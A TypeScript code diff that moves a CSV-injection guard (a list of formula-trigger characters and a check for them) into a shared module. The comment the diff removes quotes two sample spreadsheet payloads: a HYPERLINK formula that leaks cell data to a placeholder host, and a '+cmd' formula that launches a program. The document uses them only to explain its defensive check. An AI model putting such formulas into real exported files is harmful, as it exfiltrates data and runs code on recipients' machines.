@@ -4,6 +4,7 @@
  * zod validator every extracted record passes through — so the three never drift.
  */
 import { z } from "zod";
+import { startsLikeFormula } from "../spreadsheet-safe.js";
 
 /** Logical column types; each maps to one DuckDB type and one PostgreSQL type. */
 export type ColumnType = "text" | "integer" | "bigint" | "double" | "money" | "date" | "timestamp" | "boolean";
@@ -55,17 +56,8 @@ export const postgresTypeOf: Record<ColumnType, string> = {
   boolean: "boolean",
 };
 
-/**
- * The characters a spreadsheet (Excel, WPS, LibreOffice) reads as the start of a formula when it
- * opens a CSV: OWASP's CSV-injection list. `=HYPERLINK("http://x?leak="&A1,"Click")` in a cell
- * sends the sheet's data away when clicked; `+cmd|' /C calc'!A0` runs a program.
- */
-export const FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"] as const;
-
-/** True when a spreadsheet opening the text in a CSV would take it for a formula. */
-export function startsLikeFormula(value: string): boolean {
-  return FORMULA_TRIGGERS.some((trigger) => value.startsWith(trigger));
-}
+// What a spreadsheet reads as a formula is defined once, in plain JavaScript the report site's data files use too.
+export { FORMULA_TRIGGERS, startsLikeFormula } from "../spreadsheet-safe.js";
 
 /**
  * Why an identifier starting like a formula is rejected. Ids reach leadership's spreadsheets through
